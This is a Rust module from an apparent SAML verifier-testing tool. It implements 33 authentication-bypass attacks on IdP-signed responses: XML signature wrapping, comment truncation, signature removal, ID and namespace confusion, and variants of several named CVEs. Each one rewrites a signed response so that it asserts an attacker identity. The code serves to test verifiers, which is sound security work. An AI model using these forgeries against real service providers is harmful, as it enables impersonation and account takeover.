//! Attacks on a response the IdP has already signed: XML signature wrapping (XSW) and comment
//! truncation. Each one leaves the IdP's signature intact and valid — xmlsec still verifies it
//! over the element its Reference names — and adds or moves elements so that a verifier which
//! checks "a signature is valid" rather than "*this* assertion is the one signed" reads the
//! attacker's assertion instead.
//!
//! The permutations follow Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be"
//! (USENIX Security 2012); comment truncation is CVE-2017-11427..11430 (Duo Labs, 2018).
//!
//! The signed XML is parsed once (without a forced encoding, see [`crate::dsig`]), edited with
//! libxml and serialised again. The evil assertion is a copy of the signed one taken from a
//! duplicate of the parsed document ([`Document::dup`]) and imported into the original (the
//! duplicate's node is freed afterwards, see [`import_and_release`]).

use libxml::tree::{Document, Node, SaveOptions};
use serde::{Deserialize, Serialize};

mod namespaces;
mod structure;

pub use namespaces::{
    FOREIGN_NAMESPACE, HOMOGLYPH_NAMESPACE, TRAILING_SLASH_NAMESPACE, UPPER_CASE_NAMESPACE,
};

use crate::xml::{ASSERTION_NS, DSIG_NS};

/// The identity the attacker's assertion claims.
pub const ATTACKER_NAME_ID: &str = "attacker@evil.example";

/// Where comment truncation splits the signed NameID: just before this suffix, so a verifier that
/// reads only the first text node sees `alice@example.com` where `alice@example.com.evil.example`
/// was signed.
pub const TRUNCATED_SUFFIX: &str = ".evil.example";

/// A signature-wrapping (or related) attack applied to the signed response.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum SignatureWrapping {
    /// An unsigned evil assertion (fresh ID, NameID `attacker@evil.example`) inserted before the
    /// signed one, for a verifier that checks any signature and reads the first assertion.
    EvilBefore,
    /// The same evil assertion inserted after the signed one.
    EvilAfter,
    /// The signed assertion moved into a new `samlp:Extensions` (where a schema-valid response may
    /// carry anything), the evil assertion in its place.
    SignedInExtensions,
    /// The evil assertion in the signed one's place, carrying a copy of the IdP's `ds:Signature`
    /// whose new `ds:Object` holds the signed assertion, its own signature intact (XSW7/8 of
    /// Somorovsky et al.: a verifier that checks the signature it finds *inside* the evil
    /// assertion's subtree, by ID, accepts; the copy itself no longer verifies, as the enveloped
    /// transform now removes the referenced assertion along with it).
    SignedInSignatureObject,
    /// The evil assertion in the signed one's place, with the signed assertion as its last child.
    EvilWrapsSigned,
    /// An evil assertion with the *same* ID as the signed one inserted before it, for a verifier
    /// whose ID lookup finds the signed one while the application reads the first.
    DuplicateId,
    /// The evil assertion in the signed one's place, with the signed assertion in the evil one's
    /// `saml:Advice` (where SAML core §2.3.3 lets an assertion carry others): for a verifier that
    /// accepts Advice assertions by checking "some assertion's signature verifies".
    SignedInEvilAdvice,
    /// Not wrapping: a comment is inserted into the signed NameID before [`TRUNCATED_SUFFIX`].
    /// Exclusive C14N drops comments, so the signature stays valid; a verifier that reads only
    /// the first text node truncates the identity (CVE-2017-11427..11430).
    CommentTruncation,
    /// XSW1 as SAML Raider builds it, on a signed Response: the Response itself becomes the
    /// attacker's (ID `_evil…`, NameID `attacker@evil.example`) and keeps the IdP's `ds:Signature`,
    /// to which an unsigned copy of the original Response (with the signed ID) is appended.
    ResponseCopyInSignature,
    /// XSW2, on a signed Response: as XSW1, but the unsigned copy of the original Response is the
    /// attacker's Response's child just before the `ds:Signature` (a detached signature).
    ResponseCopyBeforeSignature,
    /// XSW5: the assertion in place becomes the attacker's (ID `_evil…`, evil NameID) and keeps the
    /// IdP's signature; an unsigned copy of the original, with the signed ID, is appended as the
    /// Response's last child.
    EvilKeepsSignatureOriginalAtEnd,
    /// XSW6: as XSW5, but the unsigned copy of the original is appended inside the evil
    /// assertion's `ds:Signature`.
    EvilKeepsSignatureOriginalInSignature,
    /// XSW7: an `Extensions` element in no namespace (as SAML Raider creates it) before the signed
    /// assertion, holding an unsigned evil copy that keeps the signed ID.
    EvilInUnqualifiedExtensions,
    /// XSW8: the assertion in place becomes the attacker's but keeps the signed ID and the IdP's
    /// signature, to which an `Object` element in no namespace is added holding an unsigned copy
    /// of the original.
    OriginalInUnqualifiedObject,
    /// Signature exclusion: the assertion's `ds:Signature` removed and its NameID made the
    /// attacker's, for a verifier that checks a signature only when there is one.
    SignatureRemoved,
    /// The assertion's `ds:SignatureValue` emptied (nothing else changed), for a verifier that
    /// treats an empty value as nothing to check.
    EmptySignatureValue,
    /// On a signed Response: the Response's `ds:Signature` moved into the assertion (after its
    /// Issuer). The enveloped transform still removes it wherever it is, so it verifies; a
    /// verifier that requires "a valid signature inside the assertion" accepts a signature whose
    /// Reference names the Response.
    ResponseSignatureMovedIntoAssertion,
    /// An `xml:id` attribute on the (unsigned) Response carrying the signed assertion's ID:
    /// libxml2 enters every `xml:id` in the document's ID table while parsing, so `#ID` may
    /// resolve to the Response instead of the assertion.
    XmlIdOnResponse,
    /// A `samlp:Extensions` holding a bare `samlp:Response` whose ID is the signed assertion's, an
    /// ID-table collision with an element that is not an assertion (CVE-2025-23369 style).
    NestedResponseInExtensions,
    /// As [`Self::NestedResponseInExtensions`], the nested `samlp:Response` inside the assertion
    /// signature's `ds:KeyInfo`, which neither the digest nor the signature value covers.
    NestedResponseInKeyInfo,
    /// CVE-2025-23369 (GitHub Enterprise, libxml2 ID-table quirks) as SAML Raider publishes it:
    /// a copy of the assertion signature moved to the Response with the signed assertion in its
    /// `ds:Object`, the outer assertion unsigned and renamed, and the IDs written through entities
    /// of an internal DTD (`ID="&idViaEntity;"`).
    IdViaEntity,
    /// CVE-2025-29774 (xml-crypto): the assertion made the attacker's, and a second
    /// `ds:SignedInfo` appended to its signature whose DigestValue is the edited assertion's
    /// digest, for a verifier that checks the signature value over the first SignedInfo and the
    /// digests of another.
    SecondSignedInfo,
    /// CVE-2025-29775 (xml-crypto): the assertion made the attacker's, and the edited assertion's
    /// digest put in a comment before the original DigestValue text, for a verifier that reads
    /// the DigestValue's first child node (canonicalisation drops the comment, so the signature
    /// value still matches).
    DigestValueComment,
    /// CVE-2025-47949 (samlify): the IdP's whole signed Response, unchanged, nested inside the
    /// attacker's Response after an unsigned evil assertion, for a verifier that finds "a valid
    /// signature somewhere in the document" and reads the first assertion.
    SignedResponseInsideEvil,
    /// CVE-2025-25292 (ruby-saml, namespace handling; CVE-2025-66567 its incomplete fix): an evil
    /// assertion before the signed one declaring `xmlns:saml` twice, first
    /// [`FOREIGN_NAMESPACE`], then SAML's. A parser keeping the first declaration sees a foreign
    /// element and one assertion (the signed one); a parser keeping the last reads the evil one.
    /// Not well-formed XML (Namespaces in XML §3: no duplicate attribute).
    DuplicateNamespaceDeclaration,
    /// Namespace confusion ("The Fragile Lock", PortSwigger 2025): an unsigned evil assertion
    /// before the signed one, every `saml:` element of it in [`TRAILING_SLASH_NAMESPACE`], for a
    /// reader that matches elements by prefix or local name.
    EvilAssertionNamespaceTrailingSlash,
    /// As [`Self::EvilAssertionNamespaceTrailingSlash`], in [`UPPER_CASE_NAMESPACE`].
    EvilAssertionNamespaceUpperCase,
    /// As [`Self::EvilAssertionNamespaceTrailingSlash`], in [`HOMOGLYPH_NAMESPACE`] (a Cyrillic
    /// `а` in `assertion`).
    EvilAssertionNamespaceHomoglyph,
    /// As [`Self::EvilAssertionNamespaceTrailingSlash`], in the plainly foreign
    /// [`FOREIGN_NAMESPACE`] with the right local names (`saml:` still the prefix).
    EvilAssertionForeignNamespace,
    /// Attribute pollution ("The Fragile Lock"): an unsigned evil assertion (fresh `ID`) before
    /// the signed one, carrying `samlp:ID` equal to the signed assertion's ID, for an ID lookup
    /// that ignores attribute namespaces and so finds the evil assertion as the one signed.
    PrefixedIdOnEvilAssertion,
    /// Attribute pollution: the (unsigned) Response carries `saml:ID` equal to the signed
    /// assertion's ID, and nothing else changes: `#ID` is ambiguous to a namespace-blind lookup.
    PrefixedIdOnResponse,
    /// CVE-2025-47949's carrier variant (samlify): the document element renamed
    /// `samlp:LogoutRequest` (fresh ID, no Status), an unsigned evil assertion before the IdP's
    /// signed one, posted to the ACS.
    SignedAssertionInLogoutRequest,
    /// As [`Self::SignedAssertionInLogoutRequest`], the carrier a `samlp:AuthnRequest`.
    SignedAssertionInAuthnRequest,
}

impl SignatureWrapping {
    /// Every variant, for tests and listings.
    pub const ALL: [SignatureWrapping; 33] = [
        SignatureWrapping::EvilBefore,
        SignatureWrapping::EvilAfter,
        SignatureWrapping::SignedInExtensions,
        SignatureWrapping::SignedInSignatureObject,
        SignatureWrapping::EvilWrapsSigned,
        SignatureWrapping::DuplicateId,
        SignatureWrapping::SignedInEvilAdvice,
        SignatureWrapping::CommentTruncation,
        SignatureWrapping::ResponseCopyInSignature,
        SignatureWrapping::ResponseCopyBeforeSignature,
        SignatureWrapping::EvilKeepsSignatureOriginalAtEnd,
        SignatureWrapping::EvilKeepsSignatureOriginalInSignature,
        SignatureWrapping::EvilInUnqualifiedExtensions,
        SignatureWrapping::OriginalInUnqualifiedObject,
        SignatureWrapping::SignatureRemoved,
        SignatureWrapping::EmptySignatureValue,
        SignatureWrapping::ResponseSignatureMovedIntoAssertion,
        SignatureWrapping::XmlIdOnResponse,
        SignatureWrapping::NestedResponseInExtensions,
        SignatureWrapping::NestedResponseInKeyInfo,
        SignatureWrapping::IdViaEntity,
        SignatureWrapping::SecondSignedInfo,
        SignatureWrapping::DigestValueComment,
        SignatureWrapping::SignedResponseInsideEvil,
        SignatureWrapping::DuplicateNamespaceDeclaration,
        SignatureWrapping::EvilAssertionNamespaceTrailingSlash,
        SignatureWrapping::EvilAssertionNamespaceUpperCase,
        SignatureWrapping::EvilAssertionNamespaceHomoglyph,
        SignatureWrapping::EvilAssertionForeignNamespace,
        SignatureWrapping::PrefixedIdOnEvilAssertion,
        SignatureWrapping::PrefixedIdOnResponse,
        SignatureWrapping::SignedAssertionInLogoutRequest,
        SignatureWrapping::SignedAssertionInAuthnRequest,
    ];

    /// The seven wrapping permutations and comment truncation that [`apply`] builds itself; the
    /// others are built in `structure`.
    fn is_original_wrapping(self) -> bool {
        matches!(
            self,
            SignatureWrapping::EvilBefore
                | SignatureWrapping::EvilAfter
                | SignatureWrapping::SignedInExtensions
                | SignatureWrapping::SignedInSignatureObject
                | SignatureWrapping::EvilWrapsSigned
                | SignatureWrapping::DuplicateId
                | SignatureWrapping::SignedInEvilAdvice
                | SignatureWrapping::CommentTruncation
        )
    }

    /// The namespace, ID-attribute and carrier attacks built in `namespaces`.
    fn is_namespace_attack(self) -> bool {
        matches!(
            self,
            SignatureWrapping::DuplicateNamespaceDeclaration
                | SignatureWrapping::EvilAssertionNamespaceTrailingSlash
                | SignatureWrapping::EvilAssertionNamespaceUpperCase
                | SignatureWrapping::EvilAssertionNamespaceHomoglyph
                | SignatureWrapping::EvilAssertionForeignNamespace
                | SignatureWrapping::PrefixedIdOnEvilAssertion
                | SignatureWrapping::PrefixedIdOnResponse
                | SignatureWrapping::SignedAssertionInLogoutRequest
                | SignatureWrapping::SignedAssertionInAuthnRequest
        )
    }

    /// Whether the attack edits a signed Response (`sign = response`) rather than a signed
    /// assertion (`sign = assertion`).
    pub fn attacks_response_signature(self) -> bool {
        matches!(
            self,
            SignatureWrapping::ResponseCopyInSignature
                | SignatureWrapping::ResponseCopyBeforeSignature
                | SignatureWrapping::ResponseSignatureMovedIntoAssertion
        )
    }
}

/// Why an attack could not be applied (a bug in the minter, or knobs the attack cannot work on).
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[non_exhaustive]
pub enum AttackError {
    /// The signed XML did not parse.
    #[error("the signed XML does not parse")]
    Unparsable,
    /// The response has no signed `saml:Assertion` child to attack.
    #[error("{0:?} needs a signed saml:Assertion child of the Response")]
    NoSignedAssertion(SignatureWrapping),
    /// The Response carries no `ds:Signature` to attack.
    #[error("{0:?} needs a signed Response")]
    NoSignedResponse(SignatureWrapping),
    /// The NameID does not contain the suffix comment truncation splits at.
    #[error("comment truncation needs a NameID containing `{TRUNCATED_SUFFIX}`, got `{0}`")]
    NameIdWithoutSuffix(String),
    /// libxml refused an edit.
    #[error("libxml refused to {0}")]
    Edit(&'static str),
}

/// Applies `attack` to the signed response `xml` and returns the serialised result.
pub fn apply(xml: &str, attack: SignatureWrapping) -> Result<String, AttackError> {
    let mut doc = crate::dsig::parse(xml).map_err(|_| AttackError::Unparsable)?;
    let response = doc.get_root_element().ok_or(AttackError::Unparsable)?;
    if attack.is_namespace_attack() {
        let signed = namespaces::signed_assertion(&response)
            .ok_or(AttackError::NoSignedAssertion(attack))?;
        return namespaces::apply(&mut doc, response, signed, attack);
    }
    if !attack.is_original_wrapping() {
        return structure::apply(&mut doc, response, attack);
    }
    let mut signed = child_element(&response, ASSERTION_NS, "Assertion")
        .filter(|a| child_element(a, DSIG_NS, "Signature").is_some())
        .ok_or(AttackError::NoSignedAssertion(attack))?;
    if attack == SignatureWrapping::CommentTruncation {
        truncate_name_id(&doc, &signed)?;
        return Ok(doc.to_string_with_options(SaveOptions::default()));
    }
    let signed_id = signed.get_attribute_no_ns("ID").unwrap_or_default();
    let evil_id = match attack {
        SignatureWrapping::DuplicateId => signed_id.clone(),
        _ => format!("_evil{}", signed_id.trim_start_matches('_')),
    };
    let keep_signature = attack == SignatureWrapping::SignedInSignatureObject;
    let mut evil = evil_copy(&mut doc, &evil_id, keep_signature)?;
    let edit = AttackError::Edit;
    match attack {
        SignatureWrapping::EvilBefore | SignatureWrapping::DuplicateId => signed
            .add_prev_sibling(&mut evil)
            .map_err(|_| edit("insert the evil assertion"))?,
        SignatureWrapping::EvilAfter => signed
            .add_next_sibling(&mut evil)
            .map_err(|_| edit("insert the evil assertion"))?,
        SignatureWrapping::SignedInExtensions => {
            let mut extensions = new_extensions(&doc, &response)?;
            signed
                .add_prev_sibling(&mut evil)
                .map_err(|_| edit("insert the evil assertion"))?;
            signed.unlink_node();
            extensions
                .add_child(&mut signed)
                .map_err(|_| edit("move the signed assertion"))?;
        }
        SignatureWrapping::SignedInSignatureObject => {
            let mut signature =
                child_element(&evil, DSIG_NS, "Signature").ok_or(edit("find ds:Signature"))?;
            let mut object = Node::new("Object", signature.get_namespace(), &doc)
                .map_err(|_| edit("create ds:Object"))?;
            signature
                .add_child(&mut object)
                .map_err(|_| edit("insert ds:Object"))?;
            signed
                .add_prev_sibling(&mut evil)
                .map_err(|_| edit("insert the evil assertion"))?;
            signed.unlink_node();
            object
                .add_child(&mut signed)
                .map_err(|_| edit("move the signed assertion"))?;
        }
        SignatureWrapping::EvilWrapsSigned => {
            signed
                .add_prev_sibling(&mut evil)
                .map_err(|_| edit("insert the evil assertion"))?;
            signed.unlink_node();
            evil.add_child(&mut signed)
                .map_err(|_| edit("move the signed assertion"))?;
        }
        SignatureWrapping::SignedInEvilAdvice => {
            // Schema order: Advice follows Conditions (and precedes the statements).
            let mut conditions = child_element(&evil, ASSERTION_NS, "Conditions")
                .ok_or(edit("find saml:Conditions"))?;
            let mut advice = Node::new("Advice", signed.get_namespace(), &doc)
                .map_err(|_| edit("create saml:Advice"))?;
            conditions
                .add_next_sibling(&mut advice)
                .map_err(|_| edit("insert saml:Advice"))?;
            signed
                .add_prev_sibling(&mut evil)
                .map_err(|_| edit("insert the evil assertion"))?;
            signed.unlink_node();
            advice
                .add_child(&mut signed)
                .map_err(|_| edit("move the signed assertion"))?;
        }
        // Comment truncation returned above; the others are `structure`'s.
        _ => {}
    }
    Ok(doc.to_string_with_options(SaveOptions::default()))
}

/// A new, empty `samlp:Extensions` inserted where the schema puts it: just before `samlp:Status`.
fn new_extensions(doc: &Document, response: &Node) -> Result<Node, AttackError> {
    let edit = AttackError::Edit;
    let mut status = response
        .get_child_elements()
        .into_iter()
        .find(|c| c.get_name() == "Status")
        .ok_or(edit("find samlp:Status"))?;
    let mut extensions = Node::new("Extensions", response.get_namespace(), doc)
        .map_err(|_| edit("create samlp:Extensions"))?;
    status
        .add_prev_sibling(&mut extensions)
        .map_err(|_| edit("insert samlp:Extensions"))?;
    Ok(extensions)
}

/// A copy of the signed assertion (unsigned unless `keep_signature`, which keeps a copy of the
/// IdP's `ds:Signature` that no longer matches), imported into `doc`, with ID `id` and every
/// occurrence of the victim's NameID (the NameID and attribute values equal to it) replaced by
/// [`ATTACKER_NAME_ID`].
fn evil_copy(doc: &mut Document, id: &str, keep_signature: bool) -> Result<Node, AttackError> {
    let edit = AttackError::Edit;
    // A duplicate document, because libxml copies a node into another document only when it is
    // unlinked, and the original assertion must stay where it is until the attack moves it.
    let source = doc.dup().map_err(|_| edit("duplicate the document"))?;
    let root = source
        .get_root_element()
        .ok_or(edit("find the copy's root"))?;
    let mut copy =
        child_element(&root, ASSERTION_NS, "Assertion").ok_or(edit("find the copy's assertion"))?;
    if let Some(mut signature) =
        child_element(&copy, DSIG_NS, "Signature").filter(|_| !keep_signature)
    {
        signature.unlink_node();
        // Unlinked and owned by nothing else: freed when this wrapper drops.
        signature.set_rust_owned();
    }
    copy.set_attribute("ID", id)
        .map_err(|_| edit("set the evil ID"))?;
    make_evil(&copy)?;
    import_and_release(doc, copy).map_err(|_| edit("import the evil assertion"))
}

/// Imports `copy`, an element of a duplicate of `doc`, into `doc`, and hands the original to its
/// wrapper to free. libxml's import copies the subtree; the original, once unlinked, is reachable
/// from no tree, so the duplicate's `xmlFreeDoc` never frees it (it leaked one assertion per
/// response). The caller must drop every wrapper of `copy` before the duplicate, whose dictionary
/// holds the node's names: declaring the duplicate first does that.
fn import_and_release(doc: &mut Document, mut copy: Node) -> Result<Node, ()> {
    copy.unlink_node();
    let imported = doc.import_node(&mut copy);
    // The import marks the wrapper linked although the node has no parent; unlinking again only
    // resets that mark, so that the wrapper may own the node.
    copy.unlink_node();
    copy.set_rust_owned();
    imported
}

/// Replaces every occurrence of the victim's NameID below `element` (the first NameID, and the
/// NameID and attribute values equal to it) by [`ATTACKER_NAME_ID`].
fn make_evil(element: &Node) -> Result<(), AttackError> {
    let victim = descendants(element)
        .into_iter()
        .find(|n| n.get_name() == "NameID")
        .map(|n| n.get_content())
        .unwrap_or_default();
    for mut node in descendants(element) {
        let is_value = matches!(node.get_name().as_str(), "NameID" | "AttributeValue");
        if is_value && !victim.is_empty() && node.get_content() == victim {
            node.set_content(ATTACKER_NAME_ID)
                .map_err(|_| AttackError::Edit("set the evil NameID"))?;
        }
    }
    Ok(())
}

/// Splits the NameID's text before [`TRUNCATED_SUFFIX`] with an empty comment.
fn truncate_name_id(doc: &Document, assertion: &Node) -> Result<(), AttackError> {
    let edit = AttackError::Edit;
    let mut name_id = descendants(assertion)
        .into_iter()
        .find(|n| n.get_name() == "NameID")
        .ok_or(edit("find saml:NameID"))?;
    let value = name_id.get_content();
    let split = value
        .find(TRUNCATED_SUFFIX)
        .filter(|&at| at > 0)
        .ok_or_else(|| AttackError::NameIdWithoutSuffix(value.clone()))?;
    let (head, tail) = value.split_at(split);
    name_id
        .set_content(head)
        .map_err(|_| edit("set the NameID's first text"))?;
    let mut comment = Node::new_comment("", doc).map_err(|_| edit("create the comment"))?;
    let mut rest = Node::new_text(tail, doc).map_err(|_| edit("create the second text"))?;
    name_id
        .add_child(&mut comment)
        .map_err(|_| edit("insert the comment"))?;
    name_id
        .add_child(&mut rest)
        .map_err(|_| edit("insert the second text"))?;
    Ok(())
}

fn child_element(parent: &Node, namespace: &str, name: &str) -> Option<Node> {
    parent.get_child_elements().into_iter().find(|child| {
        child.get_name() == name
            && child
                .get_namespace()
                .is_some_and(|ns| ns.get_href() == namespace)
    })
}

/// Every element below `node`, in document order.
fn descendants(node: &Node) -> Vec<Node> {
    let mut out = Vec::new();
    for child in node.get_child_elements() {
        out.push(child.clone());
        out.extend(descendants(&child));
    }
    out
}
